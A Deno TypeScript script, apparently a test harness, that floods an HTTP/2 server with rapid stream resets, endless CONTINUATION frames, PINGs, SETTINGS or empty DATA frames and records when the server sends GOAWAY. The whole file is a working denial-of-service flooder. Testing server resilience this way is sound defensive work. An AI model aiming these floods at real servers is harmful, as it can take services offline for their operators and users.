/**
 * A flood of HTTP/2: `h2_flood.ts URL reset|continuation|ping|settings|data`. It goes on until the server ends the connection or the time
 * is up, reads all that comes, and prints how many frames it has sent, the code of the server's GOAWAY, and after how many milliseconds it
 * was ended; `null` for what did not happen.
 *
 * @module
 */

import { serveHarness } from "./client.ts";

const FRAMES_AT_ONCE = 500;

/** `GET /` of http and the authority `a`, RFC 7541 appendix A. */
const GET = [0x82, 0x86, 0x84, 0x41, 1, 0x61];
const POST = [0x83, 0x86, 0x84, 0x41, 1, 0x61];

type Kind = "reset" | "continuation" | "ping" | "settings" | "data";

const [url, kind] = Deno.args as [string, Kind];

await serveHarness(async (milliseconds) => {
  const { hostname, port } = new URL(url);
  const conn = await Deno.connect({ hostname, port: Number(port) });
  const started = performance.now();
  const state = { ended: false, goaway: null as number | null, sent: 0, stream: 1 };
  const reading = read(conn, state);
  await write(conn, state, [...new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ...frame(4, 0, 0, []), ...first(kind)]);
  while (!state.ended && performance.now() - started < milliseconds) {
    const bytes: number[] = [];
    for (let at = 0; at < FRAMES_AT_ONCE; at++) bytes.push(...next(kind, state));
    state.sent += FRAMES_AT_ONCE;
    await write(conn, state, bytes);
  }
  const endMs = state.ended ? performance.now() - started : null;
  try {
    conn.close();
  } catch {
    // The server was first.
  }
  await reading;
  return { count: state.sent, goaway: state.goaway, endMs };
});

interface State {
  ended: boolean;
  goaway: number | null;
  stream: number;
}

/** What opens the stream that a flood is on. */
function first(kind: Kind): number[] {
  if (kind === "continuation") return frame(1, 1, 1, GET); // the head does not end
  return kind === "data" ? frame(1, 4, 1, POST) : [];
}

function next(kind: Kind, state: State): number[] {
  switch (kind) {
    case "reset": {
      const stream = state.stream;
      state.stream += 2;
      return [...frame(1, 5, stream, GET), ...frame(3, 0, stream, [0, 0, 0, 8])];
    }
    case "continuation":
      return frame(9, 0, 1, [0, 1, 0x78, 1, 0x79]);
    case "ping":
      return frame(6, 0, 0, [0, 0, 0, 0, 0, 0, 0, 0]);
    case "settings":
      return frame(4, 0, 0, []);
    case "data":
      return frame(0, 0, 1, []);
  }
}

function frame(type: number, flags: number, stream: number, payload: readonly number[]): number[] {
  return [
    0,
    payload.length >> 8,
    payload.length & 255,
    type,
    flags,
    stream >> 24,
    (stream >> 16) & 255,
    (stream >> 8) & 255,
    stream & 255,
    ...payload,
  ];
}

async function write(conn: Deno.Conn, state: State, bytes: readonly number[]): Promise<void> {
  const data = new Uint8Array(bytes);
  try {
    for (let at = 0; at < data.length && !state.ended;) at += await conn.write(data.subarray(at));
  } catch {
    state.ended = true; // a reset: it was ended
  }
}

/** Reads frames up to the end, and keeps the code of a GOAWAY. */
async function read(conn: Deno.Conn, state: State): Promise<void> {
  let rest = new Uint8Array();
  const buffer = new Uint8Array(65_536);
  for (;;) {
    const count = await conn.read(buffer).catch(() => null);
    if (count === null) break;
    const all = new Uint8Array(rest.length + count);
    all.set(rest);
    all.set(buffer.subarray(0, count), rest.length);
    let at = 0;
    while (at + 9 <= all.length) {
      const length = all[at]! * 65_536 + all[at + 1]! * 256 + all[at + 2]!;
      if (at + 9 + length > all.length) break;
      if (all[at + 3] === 7) state.goaway = all[at + 16]!;
      at += 9 + length;
    }
    rest = all.slice(at);
  }
  state.ended = true;
}
